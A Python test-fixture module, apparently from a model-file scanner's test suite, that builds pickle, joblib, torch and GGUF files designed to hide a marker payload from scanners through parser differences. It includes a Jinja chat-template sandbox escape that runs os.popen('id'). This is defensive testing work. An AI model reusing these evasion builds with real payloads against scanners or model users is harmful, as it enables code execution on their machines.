"""Files where a scanner that reads bytes differently from the real loader misses the payload.

Each builder assembles a hostile file byte by byte around a harmless marker payload:
``builtins.open(MARKER, "w")`` (creating the marker file proves the loader ran it). Nothing
here unpickles anything; the differential tests load these files with the real loaders in a
throw-away subprocess.
"""

from __future__ import annotations

import io
import struct
import tarfile
import zipfile

from . import _pickles as p

# --- pickle pieces ---------------------------------------------------------------------------


def frame(body: bytes) -> bytes:
    """A FRAME opcode holding ``body``."""
    return b"\x95" + struct.pack("<Q", len(body)) + body


def binint(value: int) -> bytes:
    return b"J" + struct.pack("<i", value)


def marker_call(marker: str) -> bytes:
    """``builtins.open(marker, "w")`` left on the stack (protocol 2+ opcodes)."""
    return p.global_op("builtins", "open") + p.text(marker) + p.text("w") + p.TUPLE2 + p.REDUCE


def marker_pickle(marker: str, protocol: int = 2) -> bytes:
    return p.proto(protocol) + marker_call(marker) + p.STOP


def _u1_dtype() -> bytes:
    """``numpy.dtype('u1')`` as NumPy pickles it (REDUCE, then BUILD with its state)."""
    state = (b"(" + binint(3) + p.text("|") + b"NNN" + binint(-1) + binint(-1) + binint(0)
             + p.TUPLE)
    return (p.global_op("numpy", "dtype") + p.text("u1") + b"\x89\x88" + b"\x87" + p.REDUCE
            + state + p.BUILD)


def _wrapper_state(count: int) -> bytes:
    return (p.EMPTY_DICT + p.MARK
            + p.text("subclass") + p.global_op("numpy", "ndarray")
            + p.text("shape") + binint(count) + p.TUPLE1
            + p.text("order") + p.text("C")
            + p.text("dtype") + _u1_dtype()
            + p.text("allow_mmap") + b"\x89"
            + b"u")


def _wrapper_new() -> bytes:
    """``NumpyArrayWrapper.__new__(NumpyArrayWrapper)`` (NEWOBJ)."""
    return p.global_op("joblib.numpy_pickle", "NumpyArrayWrapper") + p.EMPTY_TUPLE + p.NEWOBJ


def _wrapper_reconstructed() -> bytes:
    """``copyreg._reconstructor(NumpyArrayWrapper, object, None)``."""
    return (p.global_op("copyreg", "_reconstructor") + p.global_op("joblib.numpy_pickle",
                                                                   "NumpyArrayWrapper")
            + p.global_op("builtins", "object") + p.NONE + b"\x87" + p.REDUCE)


def joblib_frame(marker: str) -> bytes:
    """joblib: the wrapper's BUILD inside a FRAME; the payload is the rest of the frame.

    joblib reads the array bytes from the file, i.e. after the frame, and then runs the rest of
    the frame as opcodes. A scanner that treats FRAME as a no-op skips the payload as array
    data and reads the real array bytes (``.`` then ``N.`` pickles) as opcodes.
    """
    payload = marker_call(marker) + p.POP + p.STOP
    if len(payload) % 2 == 0:
        payload = b"K\x00" + p.POP + payload  # BININT1 0, POP: three bytes, odd length
    count = len(payload)
    array = b"." + b"N." * ((count - 1) // 2)
    body = _wrapper_new() + _wrapper_state(count) + p.BUILD + payload
    return p.proto(4) + frame(body) + array


def joblib_reconstructor(marker: str) -> bytes:
    """joblib: the wrapper made by ``copyreg._reconstructor``; its 5 array bytes are a BINBYTES
    header that, read as opcodes, swallows the payload."""
    payload = marker_call(marker) + p.POP
    array = b"B" + struct.pack("<I", len(payload))
    return (p.proto(2) + _wrapper_reconstructed() + _wrapper_state(len(array)) + p.BUILD
            + array + payload + p.STOP)


# --- legacy torch.save ----------------------------------------------------------------------

_TORCH_MAGIC = 0x1950A86A20F9469CFC6C


def _long1(value: int) -> bytes:
    raw = value.to_bytes((value.bit_length() + 8) // 8, "little", signed=True)
    return b"\x8a" + bytes([len(raw)]) + raw


def _sys_info() -> bytes:
    return (p.proto(2) + p.EMPTY_DICT + p.MARK + p.text("protocol_version") + binint(1001)
            + p.text("little_endian") + b"\x88" + p.text("type_sizes") + p.EMPTY_DICT
            + p.MARK + p.text("short") + binint(2) + p.text("int") + binint(4)
            + p.text("long") + binint(4) + b"u" + b"u" + p.STOP)


def legacy_torch_frame_decoys(marker: str) -> bytes:
    """Legacy ``torch.save``: the magic pickle in a 16 KiB FRAME with four decoy pickles.

    ``torch.load`` starts its next ``pickle.load`` at the end of the frame, where the real
    protocol, sys-info, object (the payload) and storage-key pickles are.
    """
    decoys = (p.proto(2) + binint(1001) + p.STOP + _sys_info() + p.proto(2) + p.EMPTY_DICT
              + p.STOP + p.proto(2) + b"]" + p.STOP)
    magic = _long1(_TORCH_MAGIC) + p.STOP
    padding = b"N." * ((16384 - len(magic) - len(decoys)) // 2)
    first = p.proto(4) + frame(magic + decoys + padding)
    rest = (p.proto(2) + binint(1001) + p.STOP + _sys_info() + marker_pickle(marker)
            + p.proto(2) + b"]" + p.STOP)
    return first + rest


# --- legacy torch tar without "ustar" ---------------------------------------------------------


def _v7(tar: bytes) -> bytes:
    """Strip the ustar magic from every header of a tar and fix the checksums."""
    out = bytearray(tar)
    offset = 0
    while offset + 512 <= len(out) and any(out[offset:offset + 512]):
        header = out[offset:offset + 512]
        size = int(header[124:136].strip(b"\0 ") or b"0", 8)
        header[257:265] = b"\0" * 8
        header[148:156] = b" " * 8
        header[148:156] = b"%06o\0 " % sum(header)
        out[offset:offset + 512] = header
        offset += 512 + -(-size // 512) * 512
    return bytes(out)


def legacy_torch_v7_tar(marker: str) -> bytes:
    """The legacy tar checkpoint (``storages``, ``tensors``, ``pickle``) as a V7 tar."""
    members = {
        "storages": p.proto(2) + b"K\x00" + p.STOP + p.proto(2) + b"]" + p.STOP,
        "tensors": p.proto(2) + b"K\x00" + p.STOP,
        "pickle": marker_pickle(marker),
    }
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return _v7(out.getvalue())


# --- torch zip with two central directories ----------------------------------------------------


def _torch_zip_parts(data_pkl: bytes) -> tuple[bytes, bytes]:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("archive/data.pkl", data_pkl)
        archive.writestr("archive/version", "3\n")
        archive.writestr("archive/byteorder", "little")
    raw = out.getvalue()
    eocd = raw.rfind(b"PK\x05\x06")
    cd_size, cd_offset = struct.unpack_from("<II", raw, eocd + 12)
    return raw[:cd_offset], raw[cd_offset:cd_offset + cd_size]


def pad_pickle(data: bytes, length: int) -> bytes:
    """``data`` (ending in STOP) padded with no-op opcode pairs to ``length`` bytes."""
    gap = length - len(data)
    if gap < 0 or gap == 1:
        raise ValueError("cannot pad by a negative amount or by one byte")
    filler = b"K\x000" + b"N0" * ((gap - 3) // 2) if gap % 2 else b"N0" * (gap // 2)
    return data[:-1] + filler + data[-1:]


def torch_zip_two_directories(marker: str) -> bytes:
    """Two central directories: zipfile reads the benign one (just before the end record),
    miniz (``torch.load``) the malicious one at the offset the end record declares."""
    evil = marker_pickle(marker)
    benign = p.proto(2) + p.EMPTY_DICT + p.STOP
    length = max(len(evil), len(benign)) + 2
    bad_local, bad_cd = _torch_zip_parts(pad_pickle(evil, length))
    good_local, good_cd = _torch_zip_parts(pad_pickle(benign, length))
    if len(bad_local) != len(good_local) or len(bad_cd) != len(good_cd):
        raise ValueError("both archives must have the same layout")
    body = bad_local + bad_cd + good_local + good_cd
    eocd = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 3, 3, len(good_cd), len(bad_local), 0)
    return body + eocd


# --- GGUF duplicate chat template ------------------------------------------------------------

ESCAPE_TEMPLATE = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"


def gguf_duplicate_template() -> bytes:
    """``tokenizer.chat_template`` twice: the first escapes the sandbox, the last is benign."""
    from ._containers import gguf_string

    entries = [("tokenizer.chat_template", ESCAPE_TEMPLATE),
               ("tokenizer.chat_template", "{{ messages[0]['content'] }}")]
    body = b"".join(gguf_string(k) + struct.pack("<I", 8) + gguf_string(v) for k, v in entries)
    head = b"GGUF" + struct.pack("<IQQ", 3, 0, len(entries)) + body
    return head + b"\0" * ((-len(head)) % 32)


# --- __setstate__ planted through a state built by a call --------------------------------------


def setstate_via_ordereddict() -> bytes:
    """BUILD with the state ``OrderedDict()`` + SETITEMS ``{'__setstate__': str}``."""
    target = p.global_op("collections", "OrderedDict") + p.EMPTY_TUPLE + p.REDUCE
    state = (p.global_op("collections", "OrderedDict") + p.EMPTY_TUPLE + p.REDUCE + p.MARK
             + p.text("__setstate__") + p.global_op("builtins", "str") + b"u")
    return p.proto(2) + target + state + p.BUILD + p.STOP
